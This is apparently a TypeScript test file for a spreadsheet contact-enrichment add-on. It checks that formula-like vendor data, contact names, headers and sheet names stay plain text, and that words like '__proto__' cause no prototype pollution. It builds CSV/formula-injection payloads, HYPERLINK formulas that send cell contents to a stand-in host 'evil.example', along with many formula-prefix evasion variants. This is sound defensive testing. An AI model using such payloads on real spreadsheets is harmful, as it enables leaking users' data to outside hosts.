// Text from outside that wants to be more than text: formulas in everything a vendor or a sheet says, and words that mean
// something to JavaScript as headers, names and sheets.
import type { HttpAnswer, VendorRequest } from '../../local/vendors/http';
import type { Grid } from '../../local/runtime/grid';
import { Addon } from '../support/addon';
import { HEADERS, people, person } from '../support/people';
import { brokenPromises, lines } from '../support/witness';

const EMULATOR = { shares: { email: 1, phone: 1, failed: 0 }, duration: { min: 30, max: 30 } };
const BOTH = { channels: ['email', 'phone'] as const };

/** What may begin a formula, in half and full width, after blanks, marks and characters that do not show. */
const LEADS = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠'],
  ...['\t=', '\r=', '\n=', '\r\n=', ' =', '\u00a0=', '\u200b=', '\ufeff=', '\u202e='],
  ...["'=", "''=", '"=', ';=', ',=', '=+', '=\t', '{=', '==', '=@', '0=', '=0', '+=', '%0A='],
];
const HOSTS = 'https://evil.example/?q=';

function formula(index: number): string {
  return `${LEADS[index % LEADS.length] ?? ''}HYPERLINK("${HOSTS}"&A1,"${index}07")`;
}

type Json = Readonly<Record<string, unknown>>;

/** Changes what the vendor answers: another body, or another answer. */
function tamper(
  addon: Addon,
  change: (body: Json, request: VendorRequest) => Json | HttpAnswer,
): void {
  const handle = addon.vendor.handle.bind(addon.vendor);
  addon.vendor.handle = (request, now) => {
    const answer = handle(request, now);
    if ('error' in answer) return answer;
    const changed = change(JSON.parse(answer.body) as Json, request);
    return isAnswer(changed) ? changed : { ...answer, body: JSON.stringify(changed) };
  };
}

function isAnswer(changed: Json | HttpAnswer): changed is HttpAnswer {
  return typeof changed.body === 'string';
}

function isSubmit({ url }: VendorRequest): boolean {
  return url.endsWith('/enrich/bulk');
}

/** Every cell of the spreadsheet that is a formula. */
function formulas(addon: Addon): string[] {
  return addon.workbook.sheets.flatMap((sheet) =>
    cellsOf(sheet)
      .filter(({ row, column }) => sheet.formula(row, column) !== '')
      .map(({ row, column }) => `${sheet.name} ${row}:${column} ${sheet.formula(row, column)}`),
  );
}

function cellsOf(sheet: Grid): { row: number; column: number }[] {
  const { rows, columns } = sheet.extent();
  return Array.from({ length: rows * columns }, (_, cell) => ({
    row: Math.floor(cell / columns) + 1,
    column: (cell % columns) + 1,
  }));
}

/** Text that was meant as text and is a number, date or truth value now. */
function turned(sheet: Grid, columns: readonly number[]): string[] {
  return cellsOf(sheet)
    .filter(({ row, column }) => row > 1 && columns.includes(column))
    .map(({ row, column }) => sheet.value(row, column))
    .filter((value) => typeof value !== 'string')
    .map(String);
}

describe.each(['', '@'])('values in cells of the format “%s”', (format) => {
  test('that begin like a formula stay the text they are, in every output and in the log', () => {
    const addon = new Addon({ rows: people(LEADS.length), emulator: EMULATOR });
    for (let row = 2; format !== '' && row <= LEADS.length + 1; row++) {
      for (const column of [5, 6, 7, 8]) addon.sheet.enter(row, column, { value: '', format });
    }
    tamper(addon, (body) => {
      const items = body.results as Json[] | undefined;
      if (items === undefined || items.length === 0) return body;
      const changed = items.map((item, index) => ({
        ...item,
        primary_email: index % 3 === 2 ? null : `${LEADS[index] ?? ''}1+1@evil.example`,
        primary_email_status: formula(index),
        personal_phone_numbers:
          index % 3 === 2
            ? []
            : [{ number: formula(index), type: formula(index + 1) }, formula(index + 2)],
        error: index % 3 === 2 ? formula(index) : null,
      }));
      const stranger = (index: number): Json => ({
        ...{ primary_email: `x${index}@evil.example`, task_id: `stranger-${index}` },
        ...{ prospect: { first_name: formula(index), last_name: formula(index + 1) } },
        company: { name: formula(index + 2), domain: 'evil.example' },
      });
      return { ...body, results: [...changed, ...LEADS.map((_, index) => stranger(index))] };
    });
    const run = addon.workToEnd(addon.start(BOTH));
    expect(run).toMatchObject({ state: 'closed', unplaced: expect.any(Number) as number });
    expect(formulas(addon)).toEqual([]);
    const log = addon.workbook.sheets.find(({ name }) => name === 'Enrichment log');
    expect(turned(addon.sheet, [1, 2, 3, 4, 5, 6, 7, 8])).toEqual([]);
    // All but the numbers of batch, row and credits.
    expect(turned(log ?? addon.sheet, [1, 2, 4, 5, 6, 8, 9, 10, 11])).toEqual([]);
    const bare = (text: string): string => (format === '' ? text : text.replace(/^'/, ''));
    const shown = new Set(addon.shown().flat().map(bare));
    const logged = new Set(lines(addon).map(({ after }) => after));
    const phones = LEADS.map((_, index) => index)
      .filter((index) => index % 3 !== 2)
      .map((index) => bare(formula(index).trim()));
    expect(phones.filter((text) => !shown.has(text))).toEqual([]);
    expect(phones.filter((text) => format === '' && !logged.has(text))).toEqual([]);
    expect(lines(addon, 'unplaced').length).toBeGreaterThanOrEqual(LEADS.length);
    expect(
      addon.column('Enrichment status').filter((text) => text.startsWith('Failed: ')),
    ).not.toEqual([]);
  });
});

test('a vendor’s words about contacts and batches that it does not take stay text', () => {
  const rows = people(LEADS.length);
  const addon = new Addon({ rows, emulator: EMULATOR });
  let named = 0;
  tamper(addon, (body, request) => {
    if (!isSubmit(request)) return body;
    const detail = [{ loc: ['body', 'contacts', 0], msg: formula(named), type: formula(named) }];
    const error = { code: 'bad', problem: formula(named), fix: formula(named + 1) };
    named++;
    return { status: 422, headers: {}, body: JSON.stringify(named < 9 ? { detail } : { error }) };
  });
  let view = addon.start();
  for (let slice = 0; slice < 30 && view.callAgainInMs !== null; slice++) view = addon.work(view);
  expect(named).toBe(9);
  expect(lines(addon, 'incomplete')).toHaveLength(8);
  expect(lines(addon, 'refused')).toHaveLength(LEADS.length - 8);
  expect(formulas(addon)).toEqual([]);
});

test('contacts, headers and a sheet that are spelled like formulas stay as they are', () => {
  const headers = [...HEADERS, formula(0), formula(8)];
  const rows = LEADS.map((lead, index) => {
    const [first = '', last = ''] = person(index);
    const names = index % 2 === 0 ? [`${lead}${first}`, last] : [first, `${lead}${last}`];
    return [...names, `${lead}Acme ${first}`, '', '', '', formula(index), lead];
  });
  const addon = new Addon({ rows: [headers, ...rows], emulator: EMULATOR });
  addon.workbook.renameSheet(addon.sheet.id, formula(1).slice(0, 50));
  const before = addon.shown();
  const run = addon.workToEnd(addon.start(BOTH));
  expect(run.state).toBe('closed');
  expect(run.found.email).toBeGreaterThan(LEADS.length / 2);
  expect(formulas(addon)).toEqual([]);
  const kept = addon.shown().map((row) => [...row.slice(0, 4), ...row.slice(6, 8)]);
  expect(kept).toEqual(before.map((row) => [...row.slice(0, 4), ...row.slice(6, 8)]));
  const sent = lines(addon, 'sent').map(({ sentAs }) => sentAs);
  expect(sent.filter((text) => /[=＝@]Acme/.test(text))).not.toEqual([]);
});

const WORDS = [
  ...[
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'length',
    'undefined',
    'null',
    '-1',
  ],
];

describe.each(WORDS)('“%s”', (word) => {
  test('as header, mapped column, sheet, company and name is a word like any other', () => {
    const rows = [
      ['First name', 'Last name', word, 'Website', 'Email', `${word} 2`, word],
      ...[0, 1, 2].map((index) => {
        const [first = '', last = '', , website = ''] = person(index);
        return [first, last, word, website, '', word, word];
      }),
    ];
    const addon = new Addon({ rows, emulator: EMULATOR });
    addon.workbook.renameSheet(addon.sheet.id, word);
    const { headerMark } = addon.home().inspection;
    const choice = { channels: ['email'] as const, rows: { kind: 'all' } as const };
    const mapped = addon.ask('inspect', {
      ...choice,
      headerMark,
      mapping: { company_name: 2, phone: 5 },
    });
    const fields = { company_name: { column: 2, certainty: 'chosen' } };
    expect(mapped.mapping).toMatchObject(fields);
    // Remembered, and found again by its header after columns moved.
    addon.sheet.insertColumns(1);
    expect(addon.home().inspection.mapping).toMatchObject({ company_name: { column: 3 } });
    const run = addon.workToEnd(addon.start({ ...BOTH }));
    expect(run).toMatchObject({ state: 'closed', found: { email: 3 } });
    expect(addon.home().runs[0]).toMatchObject({ sheetName: word });
    expect(brokenPromises(addon)).toEqual([]);
    expect(addon.shown()[0]?.slice(1, 8)).toEqual(rows[0]);
    expect(({} as Json).polluted).toBeUndefined();
  });
});
